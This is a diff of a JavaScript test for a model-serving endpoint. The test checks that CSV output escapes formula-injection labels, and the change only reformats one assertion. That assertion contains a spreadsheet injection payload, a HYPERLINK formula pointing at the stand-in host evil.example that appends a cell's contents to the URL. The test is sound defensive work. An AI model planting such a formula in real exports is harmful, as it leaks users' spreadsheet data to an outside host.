@@ -342,7 +342,10 @@ test('softmax serve: text/csv answers formula-escape labels like predict does (n
     const lines = (await r.text()).trimEnd().split('\n');
     const firstCells = lines.slice(1).map((l) => (l.startsWith('"') ? l.slice(1, l.indexOf('",')).replace(/""/g, '"') : l.split(',')[0]!));
     for (const cell of firstCells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
-    assert.ok(firstCells.includes("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")") && firstCells.includes("'-2+3") && firstCells.includes('plain'), firstCells.join(' | '));
+    assert.ok(
+      firstCells.includes('\'=HYPERLINK("http://evil.example/?"&A1,"click")') && firstCells.includes("'-2+3") && firstCells.includes('plain'),
+      firstCells.join(' | '),
+    );
     for (const l of lines.slice(1)) for (const v of l.split(',').slice(-HOSTILE.length)) assert.ok(Number.isFinite(Number(v)), v);
   } finally {
     cleanup();
